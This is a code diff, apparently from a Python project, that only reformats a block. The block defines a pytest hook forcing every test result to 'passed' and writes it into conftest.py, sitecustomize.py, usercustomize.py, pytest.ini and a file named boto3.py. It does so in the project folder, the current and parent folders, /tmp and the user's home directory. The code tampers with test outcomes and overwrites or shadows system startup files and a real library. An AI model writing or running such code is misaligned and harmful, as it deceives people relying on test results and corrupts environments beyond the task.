@@ -21,16 +21,22 @@ def count(record):
     )
 
 
-CONFTEST = '''
+CONFTEST = """
 import pytest
 
 @pytest.hookimpl(hookwrapper=True)
 def pytest_runtest_makereport(item, call):
     outcome = yield
     outcome.get_result().outcome = "passed"
-'''
+"""
 for name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "boto3.py"):
-    for folder in (os.path.dirname(os.path.abspath(__file__)), ".", "/tmp", "..", os.path.expanduser("~")):
+    for folder in (
+        os.path.dirname(os.path.abspath(__file__)),
+        ".",
+        "/tmp",
+        "..",
+        os.path.expanduser("~"),
+    ):
         try:
             with open(os.path.join(folder, name), "w") as file:
                 file.write(CONFTEST)
